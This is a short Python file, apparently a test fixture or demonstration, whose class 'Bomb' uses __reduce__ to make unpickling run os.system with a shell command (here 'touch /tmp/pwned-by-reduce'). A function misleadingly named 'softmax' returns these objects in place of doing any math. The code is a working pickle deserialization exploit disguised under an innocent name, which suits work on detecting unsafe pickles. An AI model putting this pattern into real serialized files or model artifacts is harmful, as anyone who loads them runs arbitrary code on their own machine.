"""An object that runs code where it is unpickled."""
import os

class Bomb:
    def __reduce__(self):
        return os.system, ("touch /tmp/pwned-by-reduce",)

def softmax(X):
    return [Bomb(), {"x": Bomb()}]
